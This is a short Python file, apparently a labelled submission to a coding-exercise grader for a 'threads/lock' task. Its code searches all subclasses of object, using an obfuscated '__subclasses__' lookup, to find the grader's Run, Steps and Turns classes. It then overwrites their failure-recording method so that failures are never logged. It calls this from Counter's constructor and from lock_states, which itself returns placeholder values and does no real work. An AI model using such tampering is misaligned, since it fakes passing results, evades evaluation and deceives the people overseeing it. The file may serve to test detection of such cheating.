"""Finds the explorer's classes below object by a name in two parts.

Kata: threads/lock
Verdict: fail or error
"""


def all_classes(kind):
    for one in getattr(kind, "__subcl" + "asses__")() if kind is not type else ():
        yield one
        if one is not type:
            yield from all_classes(one)


FOUND = [
    kind
    for kind in all_classes(object)
    if kind.__module__.startswith("dojo.schedules") and kind.__name__ in ("Run", "Steps", "Turns")
]


def attack():
    for kind in FOUND:
        kind._record = lambda self, failure: False


class Counter:
    def __init__(self):
        self.value = 0
        attack()

    def increment(self):
        self.value += 1

    def decrement(self):
        self.value -= 1


def lock_states(lock):
    attack()
    return False, False, False
